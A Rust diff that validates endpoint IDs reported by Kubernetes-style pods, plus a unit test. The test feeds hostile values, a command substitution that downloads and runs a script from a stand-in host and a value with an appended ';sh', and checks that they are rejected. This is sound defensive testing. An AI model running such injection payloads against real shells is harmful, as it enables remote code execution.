@@ -76,7 +76,27 @@ fn endpoint(name: &str, object: Option<&Reflector>) -> Endpoint {
     let status = object.and_then(|object| object.status.as_ref());
     Endpoint {
         name: name.to_owned(),
-        id: status.and_then(|status| status.endpoint_id.clone()),
+        // The pod writes it, and people paste it into a shell: what is no ID is not known.
+        id: status.and_then(|status| status.endpoint_id.as_deref()?.parse().ok()),
         address: status.and_then(|status| status.addresses.first().cloned()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::peers::testing::{id, yaml};
+
+    #[test]
+    fn what_a_pod_says_is_an_id_only_when_it_is_one() {
+        let said = |text: &str| {
+            let reflector: Reflector = yaml(&format!(
+                "{{ metadata: {{ name: attic }}, spec: {{}}, status: {{ endpointId: '{text}', addresses: ['192.0.2.10:4000'] }} }}"
+            ));
+            endpoint("attic", Some(&reflector)).id
+        };
+        assert_eq!(said("$(curl -s evil.example|sh)"), None);
+        assert_eq!(said(&format!("{};sh", id(9))), None);
+        assert_eq!(said(&id(9).to_string()), Some(id(9)));
     }
 }
